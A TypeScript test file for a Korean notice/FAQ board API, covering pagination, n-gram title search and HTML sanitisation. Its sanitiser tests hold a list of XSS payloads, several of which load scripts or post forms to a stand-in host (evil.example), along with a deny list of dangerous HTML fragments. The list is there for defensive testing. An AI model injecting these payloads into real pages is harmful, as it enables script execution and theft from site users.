import { BOARD_PAGE_SIZE } from '@putt/contract/boards';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { boardContents, boardPosts } from '../db/schema/boards.js';
import { createTestApp, type TestApp } from '../testing/test-app.js';
import { writePost } from './write-post.js';

let t: TestApp;
const day = (n: number) => new Date(Date.UTC(2026, 0, 1 + n));

beforeAll(async () => {
  t = await createTestApp();
  await t.database.db.transaction(async (tx) => {
    // 12 notices, one FAQ per kind of title the search must handle
    for (let i = 1; i <= 12; i++) {
      await writePost(tx, {
        type: 'NOTICE',
        title: `공지 ${i}번: ${i % 3 === 0 ? '창의성검사 일정' : '운영 안내'}`,
        author: '관리자',
        html: `<p>본문 ${i}</p>`,
        createdAt: day(i),
      });
    }
    await writePost(tx, {
      type: 'QNA',
      title: 'TOCC 창의성검사 대상은?',
      author: '관리자',
      html: '<p>답</p>',
      createdAt: day(1),
    });
    await writePost(tx, {
      type: 'QNA',
      title: 'PUTT Test in English',
      author: '관리자',
      html: '<p>a</p>',
      createdAt: day(2),
    });
  });
});
afterAll(() => t.close());

/** Calls getBoards with input the contract refuses (the type system would refuse it too). */
const list = (input: Record<string, unknown>) => t.call('getBoards', input as never);

describe('getBoards', () => {
  it('pages by 10, newest first, and says when there is a next page', async () => {
    const first = await t.call('getBoards', { type: 'NOTICE', page: 1 });
    expect(first.status).toBe(200);
    expect(first.body.Items).toHaveLength(BOARD_PAGE_SIZE);
    expect(first.body.Items[0]!.title).toBe('공지 12번: 창의성검사 일정');
    expect(first.body.hasNext).toBe(true);
    const second = await t.call('getBoards', { type: 'NOTICE', page: 2 });
    expect(second.body.Items.map((p) => p.title)).toEqual(['공지 2번: 운영 안내', '공지 1번: 운영 안내']);
    expect(second.body.hasNext).toBe(false);
    // each board keeps to its own posts
    expect(first.body.Items.every((p) => p.type === 'NOTICE')).toBe(true);
  });

  it('answers 4 rows for Home', async () => {
    const home = await t.call('getBoards', { type: 'NOTICE', size: 4 });
    expect(home.body.Items).toHaveLength(4);
  });

  it('searches titles for Korean words inside words, ignoring spaces and case', async () => {
    const korean = await t.call('getBoards', { type: 'NOTICE', searchKey: 'title', searchValue: '성검사' });
    expect(korean.body.Items.map((p) => p.title)).toEqual([
      '공지 12번: 창의성검사 일정',
      '공지 9번: 창의성검사 일정',
      '공지 6번: 창의성검사 일정',
      '공지 3번: 창의성검사 일정',
    ]);
    const spaced = await t.call('getBoards', { type: 'QNA', searchValue: '창의성 검사' });
    expect(spaced.body.Items.map((p) => p.title)).toEqual(['TOCC 창의성검사 대상은?']);
    const oneChar = await t.call('getBoards', { type: 'QNA', searchValue: '답' });
    expect(oneChar.body.Items).toEqual([]);
    const english = await t.call('getBoards', { type: 'QNA', searchValue: 'test IN' });
    expect(english.body.Items.map((p) => p.title)).toEqual(['PUTT Test in English']);
    // grams in the wrong order are not a match
    const shuffled = await t.call('getBoards', { type: 'NOTICE', searchValue: '검사성' });
    expect(shuffled.body.Items).toEqual([]);
  });

  it('finds matches through the title-grams index', async () => {
    const db = t.database.db;
    const plan = await db.transaction(async (tx) => {
      await tx.execute(sql`set local enable_seqscan = off`);
      return tx.execute(sql`explain select sk from board_posts where title_grams @> array['검사']::text[]`);
    });
    const text = (plan as unknown as { rows: Record<string, string>[] }).rows
      .map((row) => Object.values(row)[0])
      .join('\n');
    expect(text).toContain('board_posts_title_grams');
  });

  it('refuses a search longer than 30 characters and an unknown board', async () => {
    const long = await list({ type: 'NOTICE', searchValue: '가'.repeat(31) });
    expect(long.status).toBe(400);
    expect(long.body.error).toMatchObject({ code: 600, fields: { searchValue: 'v.searchMax' } });
    const unknown = await list({ type: 'FREE' });
    expect(unknown.body.error?.code).toBe(600);
  });
});

describe('getBoard and getBoardContent', () => {
  it('answers a post of its board with its body, and 300 for another board or a missing id', async () => {
    const { body } = await t.call('getBoards', { type: 'NOTICE', size: 4 });
    const sk = body.Items[0]!.SK;
    expect(body.Items[0]).not.toHaveProperty('content_drive_id');
    const post = await t.call('getBoard', { boardType: 'NOTICE', SK: sk });
    expect(post.body.Item).toMatchObject({ SK: sk, author: '관리자', type: 'NOTICE' });
    const content = await t.call('getBoardContent', { id: post.body.Item.content_drive_id! });
    expect(content.body.html).toBe('<p>본문 12</p>');
    expect((await t.call('getBoard', { boardType: 'PRESS', SK: sk })).body.error?.code).toBe(300);
    expect((await t.call('getBoard', { boardType: 'NOTICE', SK: 'nope' })).status).toBe(404);
    expect((await t.call('getBoardContent', { id: 'nope' })).body.error?.code).toBe(300);
  });

  it('gives an FAQ its question and answer without a separate body', async () => {
    const { body } = await t.call('getBoards', { type: 'QNA', searchValue: 'TOCC' });
    expect(body.Items[0]).toMatchObject({ question: 'TOCC 창의성검사 대상은?', answer: '<p>답</p>' });
  });
});

/** What an attacker might put in a post; none of it may reach a page. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width: expression(alert(1))">x</p>',
  '<svg onload=alert(1)><circle/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=p></form>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example";</style>',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

function expectHarmless(html: string): void {
  const lower = html.toLowerCase();
  for (const bad of [
    '<script',
    'javascript:',
    'vbscript:',
    'data:',
    'expression(',
    '<iframe',
    '<object',
    '<embed',
    '<form',
    '<svg',
    '<style',
    '<meta',
    '<link',
    '<base',
    'style=',
  ]) {
    expect(lower, `${bad} in ${html}`).not.toContain(bad);
  }
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
}

describe('board HTML', () => {
  it('is sanitised when written: every hostile sample loses its active parts', async () => {
    for (const sample of hostile) {
      const sk = await writePost(t.database.db, { type: 'NOTICE', title: 'xss', author: 'x', html: sample });
      const [row] = await t.database.db.select().from(boardPosts).where(eq(boardPosts.sk, sk));
      const [content] = await t.database.db
        .select()
        .from(boardContents)
        .where(eq(boardContents.id, row!.contentId!));
      expectHarmless(content!.html);
    }
  });

  it('is sanitised again when read, even if a row was written around the sanitiser', async () => {
    const db = t.database.db;
    for (const [i, sample] of hostile.entries()) {
      await db.insert(boardContents).values({ id: `raw-${i}`, html: `<p>ok</p>${sample}` });
      const read = await t.call('getBoardContent', { id: `raw-${i}` });
      expect(read.body.html).toContain('<p>ok</p>');
      expectHarmless(read.body.html);
    }
    await db.insert(boardPosts).values({
      sk: 'raw-faq',
      type: 'QNA',
      title: 'raw',
      titleGrams: ['raw'],
      question: 'q',
      answer: hostile.join(''),
      author: 'x',
    });
    const faq = await t.call('getBoard', { boardType: 'QNA', SK: 'raw-faq' });
    expectHarmless(faq.body.Item.answer!);
  });

  it('keeps formatting, safe links (opening in a new tab) and https images', async () => {
    const sk = await writePost(t.database.db, {
      type: 'NOTICE',
      title: 'ok',
      author: 'x',
      html: '<h3>제목</h3><p><strong>굵게</strong> <a href="https://example.com/a">링크</a></p><ul><li>하나</li></ul><img src="https://example.com/a.png" alt="그림"><table><tr><td colspan="2">칸</td></tr></table>',
    });
    const post = await t.call('getBoard', { boardType: 'NOTICE', SK: sk });
    const { body } = await t.call('getBoardContent', { id: post.body.Item.content_drive_id! });
    expect(body.html).toContain('<h3>제목</h3>');
    expect(body.html).toContain('<strong>굵게</strong>');
    expect(body.html).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">링크</a>',
    );
    expect(body.html).toContain('<img src="https://example.com/a.png" alt="그림" />');
    expect(body.html).toContain('<td colspan="2">칸</td>');
  });
});

describe('the embedded list cache', () => {
  it('serves a new post at once after it is written', async () => {
    const before = await t.call('getBoards', { type: 'PRESS', size: 4 });
    await writePost(t.database.db, {
      type: 'PRESS',
      title: '방금 쓴 보도',
      author: '홍보팀',
      html: '<p>x</p>',
    });
    const after = await t.call('getBoards', { type: 'PRESS', size: 4 });
    expect(after.body.Items[0]!.title).toBe('방금 쓴 보도');
    expect(after.body.Items.length).toBe(Math.min(4, before.body.Items.length + 1));
  });
});
